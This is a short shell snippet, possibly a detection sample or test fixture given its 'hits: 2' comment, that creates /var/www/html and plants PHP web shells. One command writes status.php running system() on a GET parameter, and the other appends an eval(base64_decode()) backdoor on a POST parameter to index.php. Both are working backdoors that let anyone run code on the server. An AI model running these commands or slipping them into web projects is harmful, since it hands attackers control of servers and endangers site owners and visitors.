# SPDX-License-Identifier: Apache-2.0
# hits: 2
mkdir -p /var/www/html
sh -c "echo '<?php system(\$_GET[0]); ?>' > /var/www/html/status.php"
bash -c 'printf "<?php eval(base64_decode(\$_POST[1]));" >> /var/www/html/index.php'
